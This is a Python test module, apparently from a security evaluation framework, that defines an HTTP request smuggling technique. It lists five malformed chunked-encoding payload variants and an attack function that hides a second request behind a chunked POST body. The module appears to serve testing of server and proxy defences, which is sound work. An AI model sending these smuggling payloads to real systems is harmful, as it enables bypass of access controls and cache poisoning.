"""Where a chunk ends, the next begins, or a request."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Send chunks that are longer or shorter than they say, or end in one byte instead of two.",
    claim="E3",
    defences=("chunked; trailers",),
    stopped_by=("chunk", "trailer"),
    variants={
        "too long": "3\r\nhello\r\n0\r\n\r\n",
        "a line feed": "5\nhello\n0\n\n",
        "no end": "5\r\nhello0\r\n\r\n",
        "a line feed at last": "5\r\nhello\r\n0\n\n",
        "a carriage return": "5\rhello\r0\r\r",
    },
)


def attack(case: Case, what: Any) -> None:
    names = case.ground
    hidden = inside.request(names.hidden, f"/smuggled/{case.token}")
    fields = ["Transfer-Encoding: chunked"]
    body = what.encode() + hidden
    case.tls(names.open, inside.request(names.open, "/", fields, method="POST", body=body))
